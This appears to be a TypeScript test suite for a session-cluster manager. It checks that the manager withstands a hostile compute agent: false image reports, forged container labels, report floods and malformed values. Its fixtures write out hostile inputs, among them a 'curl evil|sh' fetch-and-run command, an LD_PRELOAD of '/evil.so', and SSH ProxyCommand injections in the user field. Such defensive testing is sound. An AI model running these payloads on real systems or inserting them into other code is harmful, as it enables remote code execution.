import { readFile } from 'node:fs/promises'
import { setTimeout as delay } from 'node:timers/promises'
import { sql } from 'kysely'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { type Device, KernelId, SessionId, type SshAccess } from '#manager/contract'
import { type AgentImage, type KernelLabel } from '#agent/contract'
import { openToRead } from '../../../manager/backup/open-database.ts'
import { silentLog } from '../../../manager/log.ts'
import { newId } from '../../../manager/store/new-id.ts'
import { startManagers } from '../../fixtures/managers.ts'
import { gpus, HOST_KEY, PYTHON, ScriptedAgent, ScriptedError } from '../../fixtures/scripted-agent.ts'
import { refusal, type SessionsCluster, startSessionsCluster } from '../../fixtures/sessions-cluster.ts'

/** An agent that an admin has accepted, but whose owner is hostile: it is trusted only with its own sessions. */
let cluster: SessionsCluster

beforeAll(async () => {
  cluster = await startSessionsCluster({ slowTickMs: 200 })
})
afterEach(() => cluster.reset())
afterAll(() => cluster[Symbol.asyncDispose]())

const COMMAND = ['sh', '-c', 'curl evil|sh']
/** The genuine image with false claims of the agent. */
const lies = (more: Partial<AgentImage> = {}): AgentImage => ({
  ...PYTHON,
  title: 'Evil',
  shmemBytes: 1,
  minimum: { cpu: 9_000_000_000, mem: 2 ** 40 },
  apps: PYTHON.apps.map(app => ({ ...app, command: COMMAND, environ: { LD_PRELOAD: '/evil.so' }, secret: 'none' })),
  ...more,
})
const NOTHING = { cpu: 0, mem: 0 }

describe('a false image report of an agent', () => {
  test('the report does not affect sessions on other agents, whichever joined first', async () => {
    for (const evilFirst of [true, false]) {
      const joinEvil = () => cluster.join({ images: [lies()], capacity: NOTHING })
      const evil = evilFirst ? await joinEvil() : undefined
      const honest = await cluster.join()
      await (evil ?? joinEvil())
      const { id } = await cluster.launch({ resources: { cpu: '1', mem: '1g' } })
      const { apps, shmem, kernels } = await cluster.reach(id, 'RUNNING')
      expect(kernels[0]?.agentId).toBe(honest.id)
      expect(apps[0]).toEqual({ name: 'jupyter', title: 'JupyterLab', protocol: 'http', path: '/lab' })
      expect(shmem).toBe(String(PYTHON.shmemBytes))
      const [sent] = honest.requests('create_kernel')
      expect(JSON.stringify(sent)).not.toContain('evil')
      expect(sent?.spec.shmemBytes).toBe(PYTHON.shmemBytes)
      await cluster.reset()
    }
  })

  test('the report adds no command to what the agent of the session runs', async () => {
    const honest = await cluster.join()
    await cluster.reach((await cluster.launch()).id, 'RUNNING')
    expect(JSON.stringify(honest.requests('create_kernel')[0]?.spec)).not.toContain('jupyter')
  })
})

test('an agent cannot choose its id: the manager makes it with the join string', async () => {
  const { join } = await cluster.manager.createJoinToken()
  const evil = new ScriptedAgent({ url: cluster.url, join })
  const given = evil.id
  Object.defineProperty(evil, 'id', { value: '00000000-0000-0000-0000-000000000001' })
  await evil.connect()
  expect(evil.refusal?.code).toBe('join_token_invalid')
  // The refused attempt has not consumed the join string.
  Object.defineProperty(evil, 'id', { value: given })
  evil.refusal = undefined
  evil.rejoin(join)
  await evil.connect()
  expect(evil.refusal).toBeUndefined()
  await evil[Symbol.asyncDispose]()
})

describe('a container that an agent made up', () => {
  /** A session of somebody else on the agent, and a copy of its container for the agent to change. */
  async function template(agent: ScriptedAgent) {
    const { id } = await cluster.launch({ resources: { cpu: '1', mem: '1g' } })
    const kernel = (await cluster.reach(id, 'RUNNING')).kernels[0]
    const container = kernel && agent.containers.get(kernel.id)
    if (!container) throw new Error('no container')
    return container
  }
  const problemOf = async (agent: ScriptedAgent) =>
    (await cluster.api.listAgents()).items.find(({ id }) => id === agent.id)?.problem ?? null
  const total = async () => (await cluster.api.listSessions({})).total

  test("the container becomes nobody's session, whatever owner, amounts, times or signature it claims", async () => {
    const evil = await cluster.join()
    const other = await cluster.join()
    const container = await template(evil)
    const before = await total()
    const { label } = container
    const forgeries: Partial<KernelLabel>[] = [
      {},
      { agentId: other.id },
      { slots: { cpu: 64_000, mem: 2 ** 30 } },
      { slots: { cpu: -9000, mem: 2 ** 30 } },
      { owner: { ...label.owner, email: 'victim@example.org' } },
      { managerSignature: 'AAAA' },
      { requestedAt: '1970-01-01T00:00:00.000Z' },
    ]
    for (const forged of forgeries) {
      const kernelId = newId(KernelId)
      const made = { ...label, ...forged, kernelId, sessionId: newId(SessionId) }
      evil.containers.set(kernelId, { ...container, label: made })
    }
    await expect.poll(() => problemOf(evil)).toContain('not its signature')
    expect(await total()).toBe(before)
    const occupied = (await cluster.api.listAgents()).items.find(({ id }) => id === evil.id)?.occupied
    expect(occupied?.cpu).toBe('1')
    await cluster.api.getResources({})
    await expect(cluster.api.recalculateUsage()).resolves.toBeDefined()
    expect(await total()).toBe(before)
  })

  test('a container that claims other amounts than its session requested does not change usage', async () => {
    const evil = await cluster.join()
    const container = await template(evil)
    container.label = { ...container.label, slots: { cpu: 0, mem: 0 } }
    expect((await cluster.api.recalculateUsage()).findings).toEqual([])
    expect((await cluster.api.listAgents()).items[0]?.occupied.cpu).toBe('1')
  })

  test('a signed container that holds more than its agent has waits for an admin', async () => {
    const evil = await cluster.join()
    const container = await template(evil)
    const kernelId = newId(KernelId)
    const huge = { ...container.label, kernelId, sessionId: newId(SessionId), slots: { cpu: 64_000, mem: 2 ** 30 } }
    evil.containers.set(kernelId, { ...container, label: await cluster.signed(huge) })
    await expect.poll(() => problemOf(evil)).toContain('not its signature')
  })

  test('a session starts neither before its request nor in the future', async () => {
    const evil = await cluster.join()
    const container = await template(evil)
    for (const startedAt of ['1970-01-01T00:00:00.000Z', '9999-01-01T00:00:00.000Z']) {
      const [kernelId, sessionId] = [newId(KernelId), newId(SessionId)]
      const label = await cluster.signed({ ...container.label, kernelId, sessionId })
      const state = { state: 'running' as const, containerId: kernelId, startedAt }
      evil.containers.set(kernelId, { ...container, state, label })
      const imported = await cluster.reach(sessionId, 'RUNNING').catch(() => undefined)
      const started = Date.parse(imported?.startedAt ?? '')
      expect(started).toBeGreaterThanOrEqual(Date.parse(label.requestedAt ?? ''))
      expect(started).toBeLessThanOrEqual(Date.now() + 60_000)
    }
  })

  test('a container from before signatures keeps its resources occupied until an admin imports or removes it', async () => {
    const agent = await cluster.join({ capacity: { cpu: 3000, mem: 4 * 2 ** 30 } })
    const container = await template(agent)
    const old = { ...container.label }
    delete old.managerSignature
    delete old.requestedAt
    const ids = [newId(KernelId), newId(KernelId)]
    for (const kernelId of ids) {
      agent.containers.set(kernelId, { ...container, label: { ...old, kernelId, sessionId: newId(SessionId) } })
    }
    await expect.poll(() => problemOf(agent)).toContain('2 containers')
    const { id: waiting } = await cluster.launch({ resources: { cpu: '1', mem: '1g' } })
    await expect.poll(() => cluster.reasonOf(waiting)).toBe('capacity')
    const params = { id: agent.id }
    const { items } = await cluster.api.listUnknownContainers({ params })
    expect(items.map(({ kernelId }) => kernelId).toSorted()).toEqual(ids.toSorted())
    expect(items[0]).toMatchObject({ ownerEmail: 'admin@localhost', slots: { cpu: '1' } })
    const [kept, removed] = items
    if (!kept || !removed) throw new Error('two')
    const decide = (kernelId: KernelId, action: 'import' | 'remove') =>
      cluster.api.decideUnknownContainer({ params: { ...params, kernelId }, body: { action } })
    await decide(kept.kernelId, 'import')
    expect((await cluster.reach(kept.sessionId, 'RUNNING')).reason.code).toBe('imported')
    await decide(removed.kernelId, 'remove')
    expect(agent.containers.has(removed.kernelId)).toBe(false)
    await cluster.reach(waiting, 'RUNNING')
    await expect.poll(() => problemOf(agent)).toBeNull()
    await expect(decide(kept.kernelId, 'remove')).rejects.toMatchObject({ code: 'kernel_not_found' })
  })
})

test("an agent cannot report the end of another agent's kernel", async () => {
  const honest = await cluster.join()
  const { id } = await cluster.launch({ kind: 'batch', startupCommand: 'train' })
  const kernelId = (await cluster.reach(id, 'RUNNING')).kernels[0]?.id
  const container = kernelId && honest.containers.get(kernelId)
  if (!container) throw new Error('no container')
  const evil = await cluster.join()
  evil.script.destroy_kernel = () => ({ exitCode: 0, logTail: 'all is well' })
  evil.containers.set(kernelId, {
    ...container,
    state: { state: 'exited', containerId: 'x', exitCode: 0, oomKilled: false, engineRestarted: false },
  })
  await expect.poll(() => evil.requests('destroy_kernel').length).toBeGreaterThan(1)
  expect((await cluster.api.getSession({ params: { id } })).kernels[0]?.exitCode).toBeNull()
  honest.change(kernelId, { state: 'exited', containerId: 'c', exitCode: 3, oomKilled: false, engineRestarted: false })
  const ended = await cluster.reach(id, 'TERMINATED')
  expect([ended.result, ended.kernels[0]?.exitCode]).toEqual(['failure', 3])
})

describe('invalid values in reports', () => {
  const told = async (agent: ScriptedAgent) => (await cluster.api.listAgents()).items.find(({ id }) => id === agent.id)

  test('invalid values are dropped one by one: valid ones are used, and the admin sees which were dropped', async () => {
    const evil = await cluster.join()
    const app = { ...PYTHON.apps[0], name: 'Evil.com/?x=' }
    const bad = (more: object) => ({ ...PYTHON, id: 'sha256:bad', references: ['bad:1'], ...more })
    evil.images = [
      PYTHON,
      bad({ apps: [app] }),
      bad({ references: ['a b\u001b'] }),
      bad({ minimum: { cpu: -1 } }),
      bad({ shmemBytes: Number.MAX_SAFE_INTEGER }),
      null,
    ] as unknown as AgentImage[]
    evil.capacity = { cpu: 8000, mem: -1, 'cuda.device': Number.MAX_SAFE_INTEGER, 'warp.cores': 7 }
    evil.devices = [{ ...gpus(1)[0], uuid: '\u001b[31m' }] as Device[]
    evil.report(true)
    await expect.poll(async () => (await told(evil))?.problem).toContain('left out')
    expect((await told(evil))?.capacity.cpu).toBe('8')
    expect((await cluster.api.listImages()).items.map(({ reference }) => reference)).toEqual(['berth/python:3.13'])
    await cluster.api.getResources({})
    await cluster.api.listSessions({})
    evil.capacity = { cpu: 8000, mem: 2 ** 34 }
    evil.images = [PYTHON]
    evil.devices = []
    evil.report(true)
    await expect.poll(async () => (await told(evil))?.problem ?? null).toBeNull()
    await cluster.reach((await cluster.launch()).id, 'RUNNING')
  })

  test('invalid rows in the database hide only themselves, and their sessions can be ended', async () => {
    await cluster.join()
    const [odd, broken, good] = await Promise.all([1, 2, 3].map(() => cluster.launch()))
    for (const session of [odd, broken, good]) await cluster.reach(session!.id, 'RUNNING')
    await using store = await openToRead({ ...cluster.source, log: silentLog })
    const apps = JSON.stringify([{ name: 'Evil.com/?x=' }, ...PYTHON.apps])
    await sql`update sessions set name = ${'<img>\u001b'}, apps = ${apps} where id = ${odd!.id}`.execute(store.db)
    await sql`update sessions set reason = '{"code":"nonsense"}' where id = ${broken!.id}`.execute(store.db)
    const { items } = await cluster.api.listSessions({ query: { status: 'live' } })
    expect(items.map(({ id }) => id).toSorted()).toEqual([odd!.id, good!.id].toSorted())
    const shown = items.find(({ id }) => id === odd!.id)
    expect(shown?.name).toMatch(/^session-/)
    expect(shown?.apps.map(({ name }) => name)).toEqual(['jupyter', 'terminal', 'sshd'])
    await cluster.api.deleteSession({ params: { id: odd!.id } })
    await cluster.reach(odd!.id, 'TERMINATED')
    await cluster.api.deleteSession({ params: { id: broken!.id } }).catch(() => undefined)
    await cluster.reach(broken!.id, 'TERMINATED')
  })

  test('U+0000 and lone surrogates do not keep an image, a session or an end from being stored', async () => {
    const agent = await cluster.join({
      images: [
        { ...PYTHON, title: 'a\0b\ud800', description: '\0' },
        { ...lies(), id: 'sha256:b', references: ['b:1'] },
      ],
    })
    agent.script.destroy_kernel = ({ kernelId }) => {
      agent.containers.delete(kernelId)
      return { exitCode: 0, logTail: 'x\0'.repeat(2_000_000) }
    }
    const { id } = await cluster.launch({ resources: { cpu: '1' } })
    await cluster.reach(id, 'RUNNING')
    expect((await cluster.api.listImages()).items.map(({ title }) => title)).toContain('ab\ufffd')
    await cluster.api.deleteSession({ params: { id } })
    await cluster.reach(id, 'TERMINATED')
    expect((await cluster.api.getSessionLogs({ params: { id } })).text).toMatch(/^x+$/)
  })
})

test('an agent chooses the words of a failure, which are cleaned, but not its code', async () => {
  const evil = await cluster.join({ name: 'evil\u001b[2J\u202e' })
  expect((await cluster.api.listAgents()).items[0]?.name).toBe('evil[2J')
  const { id } = await cluster.launch()
  await cluster.reach(id, 'RUNNING')
  for (const [code, expected] of [
    ['not_signed_in', 'agent_failed'],
    ['login_throttled', 'agent_failed'],
    ['constructor', 'agent_failed'],
    ['kernel_not_found', 'kernel_not_found'],
  ] as const) {
    evil.script.get_logs = () => {
      throw new ScriptedError(code, 'red \u001b[31m\u009b text \u202e')
    }
    const { code: seen, detail } = await refusal(cluster.api.getSessionLogs({ params: { id } }))
    expect([seen, detail.why]).toEqual([expected, 'red [31m text '])
  }
})

test.each<Partial<SshAccess>>([
  { user: 'root\n  ProxyCommand touch /tmp/taken' },
  { user: '-oProxyCommand=touch' },
  { hostKey: `${HOST_KEY}\n* ${HOST_KEY}` },
  { publicKey: '' },
])('SSH facts that a client could not use are a fault of the host: %j', async lie => {
  const evil = await cluster.join()
  const { id } = await cluster.launch()
  await cluster.reach(id, 'RUNNING')
  const honest = await cluster.api.getSshAccess({ params: { id } })
  evil.script.get_ssh = () => ({ ...honest, ...lie })
  const { code, detail } = await refusal(cluster.api.getSshAccess({ params: { id } }))
  expect([code, detail.cause]).toEqual(['agent_failed', 'agent_answer_unreadable'])
})

describe('a flood of reports', () => {
  const rssOf = async (pid: number) => {
    const status = await readFile(`/proc/${pid}/status`, 'utf8')
    return Number(/VmRSS:\s+(\d+) kB/.exec(status)?.[1] ?? NaN) / 1024
  }

  test('a flood of reports is slowed down: memory stays bounded and other agents are served', async () => {
    await using managers = await startManagers()
    await using manager = await managers.spawn()
    const { api } = await managers.admin(manager)
    const { join } = await manager.createJoinToken()
    await using evil = new ScriptedAgent({ url: manager.url, join, heartbeatMs: 3_600_000 })
    await evil.connect()
    await expect.poll(async () => (await api.listAgents()).items[0]?.status).toBe('CONNECTED')
    const images = Array.from({ length: 30_000 }, (_, i) => ({ ...lies(), id: `sha256:${i}`, references: [`i:${i}`] }))
    const timed = async () => {
      const start = performance.now()
      await api.listSessions({})
      return performance.now() - start
    }
    const usual: number[] = []
    for (let time = 0; time < 10; time++) usual.push(await timed())
    const before = await rssOf(manager.pid)
    // Created once: doing it 25 times would keep this process, and so the agent, from sending anything for ten seconds.
    const text = JSON.stringify({ ...aReport, sequence: 10, images, kernels: [] })
    expect(text.length).toBeGreaterThan(10 * 2 ** 20)
    for (let i = 0; i < 25; i++) evil.sendText(text)
    let most = before
    const took: number[] = []
    const until = performance.now() + 12_000
    while (performance.now() < until) {
      took.push(await timed())
      most = Math.max(most, await rssOf(manager.pid))
      await delay(50)
    }
    // Reports of this size are read one at a time. Without backpressure the memory grew by more than two gigabytes; now it stays at 340 MB.
    expect(most - before).toBeLessThan(400)
    const atMost = (share: number, times: number[]) =>
      times.toSorted((a, b) => a - b)[Math.floor(times.length * share)] ?? NaN
    expect(atMost(0.9, took)).toBeLessThan(Math.max(1_000, 20 * atMost(0.5, usual)))
    // The agent is not read, but does not count as lost because of that.
    expect((await api.listAgents()).items[0]?.status).toBe('CONNECTED')
  })

  test('a message that is too long for its kind is not read', async () => {
    const evil = await cluster.join()
    evil.sendText(JSON.stringify({ type: 'stats', kernels: [], filler: 'x'.repeat(2 * 2 ** 20) }))
    evil.sendText('x'.repeat(2 * 2 ** 20))
    await cluster.reach((await cluster.launch()).id, 'RUNNING')
  })
})

const aReport = {
  type: 'report',
  version: '0.1.0',
  engine: { version: '29.0.0', reachable: true },
  capacity: { cpu: 8000, mem: 2 ** 34 },
  devices: [],
  network: { isolation: 'full', reason: null },
  clockMs: Date.now(),
}
